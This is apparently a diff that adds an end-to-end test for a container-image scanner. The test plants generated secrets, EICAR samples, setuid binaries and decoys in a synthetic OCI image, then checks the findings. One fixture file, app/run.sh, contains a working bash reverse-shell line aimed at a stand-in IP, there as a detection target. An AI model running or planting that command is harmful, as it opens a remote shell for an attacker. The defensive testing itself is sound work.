@@ -1,0 +1,273 @@
+/**
+ * Content scanning end to end (issue 11): a real OCI layout with secrets, threats and decoys
+ * generated at test time, scanned by `scanImage` through the same walk as the catalog. Asserts
+ * the exact finding set, layer attribution and `removedInLayer`, the noise rules, exceptions,
+ * `--fail-on` gates and that no raw value reaches the result.
+ */
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { makeZip } from '../catalog/analyzers/jar/zip-writer.test.js';
+import { AWS_EXAMPLE_KEY_ID } from '../content/secrets/noise.js';
+import { plantedValues, rsaPrivateKeyPem } from '../content/secrets/testing/tokens.js';
+import { eicarString } from '../content/threats/eicar.js';
+import type { ExceptionEntry } from '../model/exception.js';
+import { type ContentFinding, type ImageResult, ImageResultSchema } from '../model/result.js';
+import type { ImageSpec } from '../test-support/oci-image.js';
+import type { MemoryDb } from '../vulndb/testing/memory-db.js';
+import { type ScanOptions, scanImage } from './scan.js';
+import { memoryDb } from './testing/advisories.js';
+import { allAdvisories } from './testing/fixtures.js';
+import { DEBIAN_12_OS_RELEASE, dpkgStanza, ociInput } from './testing/images.js';
+
+const NOW = new Date('2026-01-15T12:00:00Z');
+const v = plantedValues();
+const testKey = rsaPrivateKeyPem();
+const appKey = rsaPrivateKeyPem();
+const envToken = plantedValues().github;
+const argToken = plantedValues().npm;
+const eicar = eicarString();
+const sha = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
+const jar = makeZip([
+  { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\n' },
+  { name: 'samples/eicar.com', data: eicar, store: true },
+]);
+/** Every raw value planted anywhere: none may appear in a result. */
+const RAW = [
+  v.awsKeyId,
+  v.awsSecret,
+  v.github,
+  v.stripe,
+  v.generic,
+  envToken,
+  argToken,
+  appKey.split('\n')[1]!,
+];
+
+const spec: ImageSpec = {
+  layers: [
+    {
+      createdBy: '/bin/sh -c #(nop) ADD file:4b0e3a in / ',
+      files: [
+        { path: 'etc/os-release', content: DEBIAN_12_OS_RELEASE },
+        { path: 'var/lib/dpkg/status', content: dpkgStanza('libfoo-dev', '1.0-1') },
+        {
+          path: 'var/lib/dpkg/info/libfoo-dev.list',
+          content: '/.\n/usr/share/doc/libfoo-dev/examples/test-key.pem\n',
+        },
+        { path: 'usr/share/doc/libfoo-dev/examples/test-key.pem', content: testKey },
+        { path: 'usr/bin/passwd', content: 'ELF', mode: 0o4755 },
+      ],
+    },
+    {
+      createdBy: 'COPY app/ /app/ # buildkit',
+      files: [
+        {
+          path: 'app/.env',
+          content: `AWS_ACCESS_KEY_ID=${v.awsKeyId}\nAWS_SECRET_ACCESS_KEY=${v.awsSecret}\n`,
+        },
+        { path: 'app/config.json', content: `{"deploy": {"token": "${v.github}"}}\n` },
+        { path: 'app/stripe.txt', content: `charge with ${v.stripe}\n` },
+        { path: 'app/db.conf', content: `user=app\npassword=${v.generic}\n` },
+        { path: 'app/id_rsa', content: appKey },
+        { path: 'app/docs/example.env', content: `AWS_ACCESS_KEY_ID=${AWS_EXAMPLE_KEY_ID}\n` },
+        { path: 'app/template.env', content: `API_TOKEN=${'$'}{API_TOKEN}\npassword=changeme\n` },
+        { path: 'app/lib/tools.jar', content: jar },
+        { path: 'app/eicar.txt', content: `${eicar}\r\n` },
+        { path: 'app/run.sh', content: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' },
+        {
+          path: 'app/health.sh',
+          content:
+            '#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e "GET /health HTTP/1.0\\r\\n" >&3\ncat <&3\n',
+        },
+        { path: 'usr/local/bin/helper', content: '#!/bin/sh\n', mode: 0o4755 },
+      ],
+    },
+    {
+      createdBy: 'RUN /bin/sh -c rm /app/stripe.txt && echo ok > /app/db.conf # buildkit',
+      files: [
+        { path: 'app/.wh.stripe.txt', content: '' },
+        { path: 'app/db.conf', content: 'user=app\n' },
+      ],
+    },
+  ],
+  emptyHistory: [
+    { beforeLayer: 1, createdBy: '/bin/sh -c #(nop)  CMD ["bash"]' },
+    { beforeLayer: 2, createdBy: `|1 NPM_TOKEN=${argToken} /bin/sh -c npm ci # buildkit` },
+  ],
+  config: {
+    Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', `GITHUB_TOKEN=${envToken}`],
+  },
+};
+
+let work: string;
+let db: MemoryDb;
+let input: string;
+
+before(async () => {
+  work = await mkdtemp(join(tmpdir(), 'assay-content-'));
+  db = memoryDb(allAdvisories);
+  input = (await ociInput(work, 'planted', spec)).input;
+});
+after(() => rm(work, { recursive: true, force: true }));
+
+async function scan(over: Partial<ScanOptions> = {}): Promise<ImageResult> {
+  const opts: ScanOptions = {
+    db,
+    source: { spoolDir: join(work, 'spool') },
+    now: () => NOW,
+    scanners: ['vuln', 'secret', 'threat', 'config'],
+    ...over,
+  };
+  const result = await scanImage(input, opts);
+  ImageResultSchema.parse(result);
+  return result;
+}
+
+const content = (r: ImageResult) => r.findings.filter((f): f is ContentFinding => f.kind !== 'vulnerability');
+const where = (f: ContentFinding) => {
+  const l = f.location;
+  const at =
+    l.source === 'file'
+      ? `${l.path}${l.member ? `!/${l.member}` : ''}`
+      : `${l.source}:${l.path ?? l.historyIndex ?? ''}`;
+  return `${f.kind} ${f.id} ${at} L${l.layerIndex ?? '-'}${l.removedInLayer !== undefined ? ` removed@${l.removedInLayer}` : ''}`;
+};
+
+describe('content scanners on a planted image', () => {
+  test('exact secret findings: every layer, deleted and overwritten files, Env and history; noise suppressed', async () => {
+    const r = await scan({ scanners: ['secret'] });
+    assert.equal(r.status, 'scanned');
+    assert.deepEqual(r.scanners, ['secret']);
+    assert.deepEqual(content(r).map(where).sort(), [
+      'secret aws-access-key-id app/.env L1',
+      'secret aws-secret-access-key app/.env L1',
+      'secret generic-secret-assignment app/db.conf L1 removed@2',
+      'secret github-token app/config.json L1',
+      'secret github-token env:GITHUB_TOKEN L-',
+      'secret npm-token history:3 L-',
+      'secret private-key app/id_rsa L1',
+      'secret stripe-secret-key app/stripe.txt L1 removed@2',
+    ]);
+    // The example key, the placeholders and the dpkg-owned test key are counted, not listed.
+    assert.ok((r.summary.content?.suppressed ?? 0) >= 4, JSON.stringify(r.summary.content));
+    assert.deepEqual(r.summary.content && { ...r.summary.content, suppressed: 0 }, {
+      secret: 8,
+      threat: 0,
+      config: 0,
+      excepted: 0,
+      suppressed: 0,
+    });
+    const github = content(r).find((f) => f.id === 'github-token' && f.location.source === 'file');
+    assert.equal(github?.kind === 'secret' && github.match, `${v.github.slice(0, 4)}***`);
+    assert.equal(github?.location.line, 1);
+    assert.equal(github?.location.createdBy, 'COPY app/ /app/ # buildkit');
+    assert.equal(github?.fromBaseImage, false);
+    const text = JSON.stringify(r);
+    for (const raw of RAW)
+      assert.ok(!text.includes(raw), `raw value ${raw.slice(0, 6)}… leaked into the result`);
+  });
+
+  test('show-suppressed lists the noise as excepted findings with the reason', async () => {
+    const { parseSecretConfig } = await import('../content/secrets/config.js');
+    const secrets = parseSecretConfig('s.yaml', 'show-suppressed: true\n');
+    const r = await scan({ scanners: ['secret'], content: { secrets } });
+    const noise = content(r).filter((f) => f.exception?.source === 'noise');
+    assert.ok(noise.some((f) => f.location.path === 'usr/share/doc/libfoo-dev/examples/test-key.pem'));
+    assert.ok(
+      noise.some(
+        (f) => f.location.path === 'app/docs/example.env' && /example-value/.test(f.exception!.reason),
+      ),
+    );
+    assert.equal(r.summary.content?.secret, 8);
+  });
+
+  test('threats: EICAR as a file and inside a jar, reverse shell but not the health check, setuid added by an own layer', async () => {
+    const r = await scan({ scanners: ['threat'] });
+    assert.deepEqual(content(r).map(where).sort(), [
+      'threat eicar app/eicar.txt L1',
+      'threat eicar app/lib/tools.jar!/samples/eicar.com L1',
+      'threat reverse-shell app/run.sh L1',
+      'threat setuid-added usr/local/bin/helper L1',
+    ]);
+    const inJar = content(r).find((f) => f.location.member);
+    assert.equal(inJar?.kind === 'threat' && inJar.sha256, sha(eicar));
+  });
+
+  test('a deny-list hash is found while streaming, with the list named', async () => {
+    const denyList = new Map([[sha(appKey), { name: 'leaked deploy key', source: 'bad.txt' }]]);
+    const r = await scan({ scanners: ['threat'], content: { denyList } });
+    const listed = content(r).filter((f) => f.id === 'hash-denylist');
+    assert.deepEqual(listed.map(where), ['threat hash-denylist app/id_rsa L1']);
+    assert.equal(listed[0]?.kind === 'threat' && listed[0].evidence, 'leaked deploy key');
+  });
+
+  test('config checks: root user, no healthcheck, secret in ENV and ARG, setuid files', async () => {
+    const r = await scan({ scanners: ['config'] });
+    const ids = [...new Set(content(r).map((f) => f.id))].sort();
+    for (const id of ['no-healthcheck', 'root-user', 'secret-in-env', 'setuid-files'])
+      assert.ok(ids.includes(id), `${id} in ${ids}`);
+    const text = JSON.stringify(r);
+    for (const raw of RAW)
+      assert.ok(!text.includes(raw), `raw value ${raw.slice(0, 6)}… leaked into the result`);
+  });
+
+  test('exceptions: a secret by rule and path glob, a threat by sha256, a config check by id', async () => {
+    const entries: ExceptionEntry[] = [
+      { kind: 'secret', target: 'aws-*', reason: 'no glob in ids', author: 'a' },
+      {
+        kind: 'secret',
+        target: 'aws-secret-access-key:app/**',
+        reason: 'rotated',
+        author: 'sec',
+        expires: '2027-01-01',
+      },
+      { kind: 'threat', target: `sha256:${sha(eicar)}`, reason: 'AV self-test', author: 'ops' },
+      { kind: 'config', target: 'no-healthcheck', reason: 'batch job', author: 'ops' },
+    ];
+    const r = await scan({ exceptions: [{ source: 'x.yaml', path: 'x.yaml', entries }] });
+    const excepted = content(r)
+      .filter((f) => f.exception && f.exception.source !== 'noise')
+      .map(where)
+      .sort();
+    assert.deepEqual(excepted, [
+      'config no-healthcheck config: L-',
+      'secret aws-secret-access-key app/.env L1',
+      // app/eicar.txt ends in CRLF: another file, another hash (still EICAR by the spec, still reported).
+      'threat eicar app/lib/tools.jar!/samples/eicar.com L1',
+    ]);
+    assert.equal(r.summary.content?.excepted, 3);
+  });
+
+  test('--fail-on: PASS by CVSS, FAIL with fail-on secret, PASS again once every secret is excepted', async () => {
+    const plain = await scan({ scanners: ['vuln', 'secret'] });
+    assert.equal(plain.result, 'PASS', plain.statusMessage);
+    const failing = await scan({ scanners: ['vuln', 'secret'], failOn: ['secret'] });
+    assert.deepEqual([failing.result, failing.failOn], ['FAIL', ['secret']]);
+    const all: ExceptionEntry[] = [{ kind: 'secret', target: '*', reason: 'x' }].flatMap((e) =>
+      [
+        'aws-access-key-id',
+        'aws-secret-access-key',
+        'generic-secret-assignment',
+        'github-token',
+        'npm-token',
+        'private-key',
+        'stripe-secret-key',
+      ].map((id) => ({ ...e, kind: 'secret' as const, target: id })),
+    );
+    const excepted = await scan({
+      scanners: ['vuln', 'secret'],
+      failOn: ['secret'],
+      exceptions: [{ source: 'e', path: 'e', entries: all }],
+    });
+    assert.equal(excepted.result, 'PASS');
+  });
+
+  test('layers[].createdBy of a history line with a token is redacted when secrets are scanned', async () => {
+    const r = await scan({ scanners: ['vuln', 'secret'] });
+    assert.ok(!JSON.stringify(r.layers).includes(argToken));
+  });
+});
